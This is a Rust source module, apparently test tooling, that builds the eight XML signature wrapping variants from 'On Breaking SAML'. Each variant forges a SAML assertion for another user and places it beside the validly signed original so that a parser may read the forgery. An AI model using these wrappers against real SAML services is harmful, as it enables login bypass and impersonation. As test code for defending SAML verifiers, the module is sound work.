//! The eight ways to wrap a signature that Somorovsky and others published ("On Breaking SAML", USENIX Security 2012):
//! what is signed is carried along, and something else stands where it is read.

use super::answers::{assertion, part, signature};

/// An assertion that says it is of somebody else, with no signature of its own.
fn forged(xml: &str) -> String {
    let plain = assertion(xml).replace(signature(xml), "");
    plain.replace("ID=\"_a-", "ID=\"_evil-").replace("sade@", "amelia@").replace(">s-1<", ">s-amelia<")
}

/// The signed assertion without its signature, which still holds for it.
fn bare(xml: &str) -> String {
    assertion(xml).replace(signature(xml), "")
}

/// The whole answer with the assertion replaced.
fn with(xml: &str, replaced: &str) -> String {
    xml.replace(assertion(xml), replaced)
}

/// A copy of a signed answer by another name, with somebody else in it, and the whole answer as it was, less its
/// signature.
fn answers(whole: &str) -> (String, String, String) {
    let head = &whole[..whole.find("<saml:Assertion ").expect("an assertion")];
    let own = part(head, "<ds:Signature ", "</ds:Signature>").to_owned();
    let original = whole.replacen(&own, "", 1);
    let evil = with(&original, &forged(whole)).replace("ID=\"_answer\"", "ID=\"_evil\"");
    (evil, original, own)
}

/// The variant with this number, of an answer whose assertion is signed or, for the first two, of one that is signed as
/// a whole, too.
pub fn wrapped(number: usize, xml: &str) -> String {
    let (evil, own) = (forged(xml), signature(xml));
    let evil_with = |inner: &str| {
        let after = evil.find("</saml:Issuer>").expect("an issuer") + "</saml:Issuer>".len();
        format!("{}{inner}{}", &evil[..after], &evil[after..])
    };
    match number {
        1 => {
            let (evil, original, own) = answers(xml);
            let holding = own.replace("</ds:Signature>", &format!("<ds:Object>{original}</ds:Object></ds:Signature>"));
            evil.replacen("</saml:Issuer>", &format!("</saml:Issuer>{holding}"), 1)
        }
        2 => {
            let (evil, original, own) = answers(xml);
            evil.replacen("</saml:Issuer>", &format!("</saml:Issuer>{original}{own}"), 1)
        }
        3 => with(xml, &format!("{evil}{}", assertion(xml))),
        4 => with(xml, &evil.replace("</saml:Assertion>", &format!("{}</saml:Assertion>", assertion(xml)))),
        5 => with(xml, &format!("{}{}", evil_with(own), bare(xml))),
        6 => {
            let holding = own.replace("</ds:Signature>", &format!("{}</ds:Signature>", bare(xml)));
            with(xml, &evil_with(&holding))
        }
        7 => with(xml, &format!("<samlp:Extensions>{evil}</samlp:Extensions>{}", assertion(xml))),
        8 => {
            let holding = format!("<ds:Object>{}</ds:Object></ds:Signature>", bare(xml));
            with(xml, &evil_with(&own.replace("</ds:Signature>", &holding)))
        }
        _ => unreachable!("there are eight"),
    }
}
